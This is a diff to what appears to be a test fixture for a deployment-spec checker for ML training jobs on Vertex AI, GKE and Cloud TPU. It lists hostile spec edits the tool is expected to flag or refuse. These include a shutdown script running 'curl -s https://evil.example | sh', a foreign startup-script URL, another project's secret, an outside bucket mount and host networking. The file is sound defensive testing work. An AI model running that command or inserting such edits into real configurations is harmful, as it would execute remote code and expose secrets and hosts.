@@ -27,6 +27,11 @@ def variables(**values: str) -> Edit:
     return spec((_MODEL_DIR, f"{_MODEL_DIR}  env: {json.dumps(values)}\n"))
 
 
+def credentials(**values: str) -> Edit:
+    """Set variables with the names of secrets, which a spec may have only if it allows them."""
+    return together(variables(**values), append(SPEC, "allow: {TPU017: a test key}\n"))
+
+
 GKE: Final = spec(
     ("target: vertex-ai", "target: gke"),
     ("sizes: [v2-8, v2-32, v2-128] ", "sizes: [v6e-8, v6e-16]"),
@@ -108,7 +113,7 @@ ATTACKS: Final = (
     ),
     attack(
         "variable-with-a-secret-name",
-        variables(MY_API_KEY="hunter2"),
+        credentials(MY_API_KEY="hunter2"),
         "variable `MY_API_KEY` added (`[secret]`)",
         absent=("hunter2",),
     ),
@@ -137,9 +142,9 @@ ATTACKS: Final = (
     attack(
         "time-limit-lifted",
         together(spec(("  max_run_duration: 1d\n", "")), append(SPEC, "capacity: spot\n")),
-        "`scheduling.timeout` removed (was `86400s`): nothing else ends a run that hangs",
-        "`scheduling.strategy` added (`SPOT`)",
-        base=spec((_MODEL_DIR, f"{_MODEL_DIR}  max_run_duration: 1d\n")),
+        "maximum run duration removed (was `1d`): nothing else ends a run that hangs",
+        "capacity changed from `on-demand` to `spot`: machines can be taken away while a run is under way",
+        base=together(ONE_SIZE, spec((_MODEL_DIR, f"{_MODEL_DIR}  max_run_duration: 1d\n"))),
     ),
     refused(
         "another-command",
@@ -179,6 +184,19 @@ ATTACKS: Final = (
         "the container sees and controls its host's processes",
         "and 392 more, which the fold shows",
         base=GKE,
+    ),
+    attack(
+        "secret-of-another-project",
+        spec((_PROD, f"{_PROD}    trainer: {{secrets: {{A: projects/other/secrets/admin/versions/1}}}}\n")),
+        "**every size of prod**: secret `A` added (`projects/other/secrets/admin/versions/1`) in `environments.prod`: "
+        "the program gets its value, and the stack grants the jobs' account access to it",
+        base=CLOUD_TPU,
+    ),
+    attack(
+        "bucket-of-others-mounted",
+        append(SPEC, "overrides: {v2-32: {trainer: {mounts: {/data: 'gs://theirs/x'}}}}\n"),
+        "**dev, prod: v2-32**: mount `/data` added (`gs://theirs/x`) in `overrides.v2-32`: `gs://theirs` is not the",
+        base=CLOUD_TPU,
     ),
     attack(
         "figure-no-longer-passed",
@@ -247,6 +265,18 @@ ATTACKS: Final = (
         options("cloud-tpu", extra=node({"startup-script-url": "gs://theirs/x.sh"})),
         "error[TPU067]: tpu.nodeSpec[0].node.metadata.startup-script-url in extra would run a second program",
         base=CLOUD_TPU,
+    ),
+    refused(
+        "script-at-the-end",
+        options("cloud-tpu", extra=node({"shutdown-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"})),
+        "would run a program while the host shuts down",
+        base=together(CLOUD_TPU, ONE_SIZE),
+    ),
+    refused(
+        "network-of-the-host",
+        options("gke", extra=pod(hostNetwork=True)),
+        "would run the program as the account of its node",
+        base=GKE,
     ),
     attack(
         "keys-to-the-hosts",
